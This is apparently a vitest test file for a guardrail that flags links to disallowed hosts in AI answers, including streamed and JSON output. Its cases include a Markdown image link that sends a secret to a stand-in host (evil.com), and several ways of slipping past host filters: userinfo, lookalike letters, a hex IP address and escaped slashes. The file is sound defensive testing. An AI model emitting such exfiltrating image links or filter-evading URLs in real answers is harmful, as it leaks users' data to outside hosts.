import { linksCheckSchema } from '@weir/contracts/guardrails/policy';
import fc from 'fast-check';
import { expect, it } from 'vitest';
import { chunksOf, streamedFindings, wholeFindings } from '../../test/streamed-findings.ts';
import { createLinksCheck } from './links-check.ts';

const checkOf = (fields: object) => createLinksCheck(linksCheckSchema.parse({ type: 'links', ...fields }));
const allowing = checkOf({ allowed_hosts: ['weir.dev', '*.weir.dev'] });
const linksIn = (text: string, check = allowing) =>
  wholeFindings(check, text).map(({ end, start }) => text.slice(start, end));

it.each([
  'See https://weir.dev/docs?a=b.',
  '![logo](https://cdn.weir.dev/logo.png), <https://WEIR.DEV:443/>, https://weir.dev.',
  'https://ｗｅｉｒ.dev in full width',
  '// a comment, a//b, and/or, src//main, 10//2',
])('lets links to allowed hosts pass, and what is no link: %s', (text) => {
  expect(linksIn(text)).toEqual([]);
});

it.each([
  ['another host', 'go to https://evil.com/x now', 'https://evil.com/x'],
  [
    'an image, by which an answer can carry data out',
    '![x](https://evil.com/?q=secret)',
    'https://evil.com/?q=secret',
  ],
  ['an allowed host as user', 'https://weir.dev@evil.com', 'https://weir.dev@evil.com'],
  ['an allowed host as beginning', 'https://weir.dev.evil.com', 'https://weir.dev.evil.com'],
  ['a name that ends alike', 'https://notweir.dev', 'https://notweir.dev'],
  ['backslashes', 'http:\\\\evil.com', 'http:\\\\evil.com'],
  ['no scheme', '[x](//evil.com/x)', '//evil.com/x'],
  ['www', 'www.evil.com', 'www.evil.com'],
  ['letters of another script', 'https://wеir.dev', 'https://wеir.dev'],
  ['an address', 'http://0x7f000001/admin', 'http://0x7f000001/admin'],
  ['no host that can be read', 'https://%zz/', 'https://%zz/'],
])('finds a link with %s', (_what, text, found) => {
  expect(linksIn(text)).toEqual([found]);
});

it('finds denied hosts by their names alone too', () => {
  const check = checkOf({ denied_hosts: ['evil.com', '*.evil.com'] });
  expect(linksIn('https://weir.dev evil.com a.EVIL.com. notevil.com https://evil.com', check)).toEqual([
    ...['evil.com', 'a.EVIL.com.', 'https://evil.com'],
  ]);
});

it('reads links in JSON, whose slashes may be escaped', () => {
  const json = '{"url":"https:\\/\\/evil\\u002ecom\\/x"}';
  const [found] = wholeFindings(allowing, json, 'json');
  expect(json.slice(found?.start, found?.end)).toBe('https:\\/\\/evil\\u002ecom\\/x');
});

it('takes time in proportion to the text', () => {
  for (const piece of ['a', 'a.', 'http://', '//', 'www.', '-']) {
    expect(allowing.find(piece.repeat(100_000), 'text').length).toBeLessThanOrEqual(300_000);
  }
});

it('a stream finds what is found in the whole, for every chunking', () => {
  const check = checkOf({ allowed_hosts: ['weir.dev'], denied_hosts: ['evil.com'] });
  const pieces = [
    'https:',
    '//',
    'weir.dev',
    'evil.com',
    '/',
    ' ',
    '(',
    ')',
    '@',
    '.',
    'www.',
    'x',
    '😀',
    'y'.repeat(2_100),
  ];
  const texts = fc.array(fc.constantFrom(...pieces), { maxLength: 15 }).map((parts) => parts.join(''));
  const lengths = fc.array(fc.integer({ min: 1, max: 900 }), { minLength: 1, maxLength: 8 });
  const property = fc.property(texts, lengths, (text, cuts) => {
    expect(streamedFindings(check, chunksOf(text, cuts))).toEqual(wholeFindings(check, text));
  });
  fc.assert(property, { numRuns: 150 });
});
